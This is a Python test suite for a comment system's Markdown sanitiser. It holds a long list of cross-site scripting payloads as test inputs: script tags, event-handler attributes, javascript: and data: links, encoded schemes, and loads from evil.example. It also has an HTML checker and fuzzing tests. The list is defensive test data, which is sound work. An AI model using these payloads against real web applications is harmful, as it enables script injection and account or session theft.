"""Markdown: no text, name or quotation of a stranger runs, loads or styles anything, or leads where links may not."""

import json
import random
import re
from html.parser import HTMLParser

import pytest

from physalis.people.comments import Comments, Database, Invitations, markdown
from physalis.people.comments.anchors import PassageAnchor
from physalis.people.comments.markdown import REL, TAGS, to_html
from physalis.people.comments.store import LONGEST
from physalis.people.comments.threads import thread_html
from physalis.web.server.shell import fill

HTML = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>
<math href='javascript:alert(1)'>x</math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc='<script>alert(1)</script>'>
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href='java␉script:alert(1)'>x</a>
<a href='&#106;avascript:alert(1)'>x</a>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<form action=javascript:alert(1)><button>x</button></form>
<base href=//evil.example>
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content='0;url=//evil.example'>
<style>@import '//evil.example';</style>
<p style='background:url(javascript:alert(1))'>x</p>
<template><script>alert(1)</script>
<noscript><p title='</noscript><img src=x onerror=alert(1)>'>
<textarea></textarea><script>alert(1)</script>
<xmp><img src=x onerror=alert(1)></xmp>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href='javascript:alert(1)'?>
<a onclick=alert(1)//href=x>x</a>
<b/onmouseover=alert(1)>x</b>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</div></article></script><script>alert(1)</script>
"""
MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](<java script:alert(1)>)
[x](%6Aavascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](//evil.example)
[x](\\\\evil.example)
[x](https:evil.example)
[x](https:///evil.example)
<javascript:alert(1)>
<data:text/html,x>
![x](javascript:alert(1))
![x](https://evil.example/tracks.png)
![x](x"onerror="alert(1))
[x](https://example.org "onmouseover=alert(1)")
[x](https://example.org"onclick="alert(1))
[x](https://example.org/'><script>alert(1)</script>)
[x]: javascript:alert(1)␤␤[x]
[<img src=x onerror=alert(1)>](https://example.org)
```<script>␤alert(1)␤```
```"onload=alert(1)␤x␤```
`<script>alert(1)</script>`
    <script>alert(1)</script>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
<details>␤␤<script>alert(1)</script>
＜script＞alert(1)＜/script＞
&lt;script&gt;alert(1)&lt;/script&gt;
\<script>alert(1)\</script>
<mailto:a@example.org?subject=<script>alert(1)</script>>
"""
RAW, MARKED = (
    [line.replace("␉", "\t").replace("␤", "\n") for line in text.strip("\n").split("\n")] for text in (HTML, MARKDOWN)
)
ATTACKS = [*RAW, *MARKED]
ABSOLUTE = re.compile(r'(https?://[^/\s"<>]|mailto:[^\s"<>]+@)[^\s"<>]*', re.IGNORECASE)


class Judge(HTMLParser):
    """Everything in a piece of HTML that could run, load or style something, or lead where links may not."""

    ELEMENTS = TAGS | {"article", "header", "b", "span", "time", "div"}
    ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "article": {"class", "id"}, "time": {"datetime"}}

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in self.ELEMENTS:
            self.found.append(tag)
        self.found += [f"{tag}[{name}]" for name, _ in attrs if name not in self.ATTRIBUTES.get(tag, set())]
        given = dict(attrs)
        if "href" in given and ABSOLUTE.fullmatch(given["href"] or "") is None:
            self.found.append(given["href"])
        if tag == "a" and given.get("rel") != REL:
            self.found.append("a link without rel")

    def handle_comment(self, data):
        self.found.append("<!--")

    def handle_decl(self, decl):
        self.found.append("<!")

    def unknown_decl(self, data):
        self.found.append("<![")

    def handle_pi(self, data):
        self.found.append("<?")


def test_the_judge_finds_what_there_is():
    """Else no attack below would prove anything."""
    assert len(ATTACKS) >= 40
    for attack in RAW:
        assert Judge(attack + ">").found, attack
    honest = to_html("A *b* [c](https://example.org), <mailto:a@example.org>, `d`\n\n> e\n\n3. f\n\n***")
    assert Judge(honest).found == []
    for part in ("<em>b</em>", 'href="https://example.org"', "<code>d</code>", "<blockquote>", 'start="3"', "<hr>"):
        assert part in honest


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_script_in_texts_names_and_anchors(tmp_path, attack):
    database = Database(tmp_path)
    comments, invitations = Comments(database), Invitations(database)
    name = " ".join(attack.split())[:100].strip()
    person = invitations.invite(name, name, role="owner").invitation
    anchor = PassageAnchor(article="a", exact=attack, prefix=attack, suffix=attack)
    for text in (attack, f"Before {attack} after", f"**{attack}**", f"> 1. {attack}\n\n[{attack}]({attack})"):
        assert Judge(to_html(text)).found == [], text
        comments.publish(person, comments.write(person, anchor, text).id, 1)
    threads = comments.published("article/a")
    assert len(threads) == 4
    for thread in threads:
        assert thread.comment.name == thread.comment.affiliation == name and thread.comment.anchor == anchor
        assert Judge(thread_html(thread)).found == [], thread.comment.text
        shell = '<title>physalis</title><script type="application/json" id="page">{}</script>'
        page = fill(shell, title=name, records={"thread": thread.model_dump_json()})
        assert page.count("<") == 4  # those of the shell: title and script, opened and closed
        assert json.loads(page[page.index(">{") + 1 : page.rindex("}") + 1])["thread"]["comment"]["name"] == name


def test_either_wall_would_do():
    for attack in ATTACKS:
        assert Judge(markdown._clean(attack)).found == [], attack
        alone = Judge(markdown._parser.render(attack).replace("<a ", f'<a rel="{REL}" ')).found
        assert set(alone) <= {"a[title]", "code[class]"}, attack  # what nh3 has to do then


def test_random_markdown_stays_safe():
    rng = random.Random(0)
    parts = [*"[]()<>`*_!#&;:\"'\\/\n -=+.1a", "javascript:", "https://a", "&#x6A;", "<a href=", "onerror=", "```"]
    for _ in range(2000):
        text = "".join(rng.choices(parts, k=rng.randint(1, 40)))
        assert Judge(to_html(text)).found == [], text
    for _ in range(300):
        text = "".join(chr(rng.choice([rng.randrange(0xD800), rng.randrange(0xE000, 0x110000)])) for _ in range(30))
        assert Judge(to_html(text)).found == [], text


PIECES = ("[", "](", "*a ", "> ", "- ", "`", "<", "&", "[a](b", "**a_", "\\", "1. ", "<a:", "a\n")


@pytest.mark.parametrize("piece", PIECES)
def test_the_longest_texts_are_read(piece):
    text = (piece * LONGEST)[:LONGEST]  # what is quadratic in this, or worse, would not come to an end here
    assert Judge(to_html(text)).found == []
